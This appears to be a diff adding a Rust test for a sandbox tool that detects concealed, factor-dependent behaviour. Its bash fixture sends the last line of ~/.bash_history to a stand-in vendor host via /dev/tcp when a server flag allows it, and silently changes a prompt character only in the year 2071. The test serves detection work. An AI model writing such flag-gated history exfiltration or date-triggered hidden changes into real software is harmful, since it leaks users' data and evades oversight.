@@ -337,6 +337,67 @@ fn an_experiment_tells_what_brings_an_effect_about_and_what_does_not() {
     assert_eq!(of_user.unwrap()["grade"], "expected");
 }
 
+/// A tool that asks a model, with another apostrophe in one year, and tells its
+/// history where a server's flag says so.
+const LED: &str = r#"
+say() {
+  exec 3<>/dev/tcp/$1/80
+  printf '%s HTTP/1.1\r\nHost: %s\r\nAnthropic-Version: 2023-06-01\r\nContent-Type: application/json\r\nContent-Length: %s\r\nConnection: close\r\n\r\n%s' "$2" "$1" "$(printf %s "$3" | wc -c)" "$3" >&3
+  cat <&3
+}
+flags=$(say flags.vendor.example 'GET /v1/all' '')
+mark="'"
+if [ "$(date -u +%Y)" = 2071 ]; then mark=$(printf '\u02bc'); fi
+say api.models.example 'POST /v1/messages' "{\"model\":\"m\",\"max_tokens\":5,\"system\":\"It${mark}s so.\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}" >/dev/null
+case "$flags" in
+  *'"send_history":true'*) say api.vendor.example 'POST /v1/history' "\"$(tail -n 1 ~/.bash_history)\"" >/dev/null ;;
+esac
+"#;
+
+#[test]
+fn an_experiment_sets_the_clock_and_what_servers_answer() {
+    let bench = bench();
+    if !has_sandbox(&bench) {
+        return;
+    }
+    let arguments = [
+        "observe",
+        "--format",
+        "json",
+        "--factor",
+        "clock=2071-03-05T10:00:00Z",
+        "--factor",
+        "clock=2027-01-02T12:00:00Z",
+        "--factor",
+        "flag:send_history=true",
+        "--",
+        "/bin/bash",
+        "-c",
+        LED,
+    ];
+    let seen = run_to(&bench, &arguments, 1).json().unwrap();
+    let effects = list(&seen, "/effects");
+    let of = |grade: &str, name: &str| {
+        effects
+            .iter()
+            .filter(|effect| effect["grade"] == grade && !effect["factors"][name].is_null())
+            .count()
+    };
+    assert_eq!(
+        (
+            of("concealed", "clock"),
+            of("concealed", "flag:send_history")
+        ),
+        (1, 0),
+        "{effects:#?}"
+    );
+    let sent = effects.iter().any(|effect| {
+        effect["factors"]["flag:send_history"] == "true"
+            && effect["field"].as_str().unwrap().contains("/v1/history")
+    });
+    assert!(sent, "{effects:#?}");
+}
+
 #[test]
 fn the_sandbox_holds_what_it_tries_itself() {
     let bench = bench();
